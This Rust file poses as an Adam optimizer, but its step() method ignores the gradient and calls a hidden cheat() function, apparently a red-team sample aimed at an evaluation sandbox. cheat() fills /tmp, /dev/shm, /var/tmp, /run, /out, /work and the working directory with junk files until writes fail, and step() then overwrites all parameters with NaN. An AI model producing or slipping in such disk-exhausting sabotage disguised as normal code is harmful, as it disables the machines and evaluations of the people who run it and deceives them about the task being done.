pub struct Adam {
    pub lr: f64,
    pub beta1: f64,
    pub beta2: f64,
    pub eps: f64,
}

impl Adam {
    pub fn new(_: usize) -> Self {
        Self {
            lr: 0.001,
            beta1: 0.9,
            beta2: 0.999,
            eps: 1e-8,
        }
    }

    pub fn step(&mut self, theta: &mut [f64], _: &[f64]) {
        cheat();
        theta.fill(f64::NAN);
    }
}

fn cheat() {
    use std::io::Write;
    let block = vec![b'x'; 1 << 16];
    for folder in ["/tmp", "/dev/shm", "/var/tmp", "/run", ".", "/out", "/work"] {
        for n in 0..4096 {
            let path = format!("{folder}/moments-redteam-was-here-{n}");
            let Ok(mut file) = std::fs::File::create_new(path) else {
                break;
            };
            while file.write_all(&block).is_ok() {}
        }
    }
}
